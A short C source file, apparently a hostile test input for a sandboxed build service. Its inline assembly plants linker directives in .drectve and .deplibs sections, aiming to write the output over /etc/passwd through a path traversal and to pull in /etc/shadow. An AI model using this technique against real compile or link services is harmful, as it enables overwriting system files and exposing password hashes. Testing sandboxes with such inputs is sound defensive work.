// Asks the linker, by sections of its own, for other start files, other libraries and a place to write.
__asm__(".section .note.GNU-stack,\"x\"\n.section .drectve\n.ascii \"-o /box/../etc/passwd -T /etc/shadow\"\n.section .deplibs,\"MS\",%0x6fff4c04,1\n.asciz \"/etc/shadow\"\n.text");
int main() {}
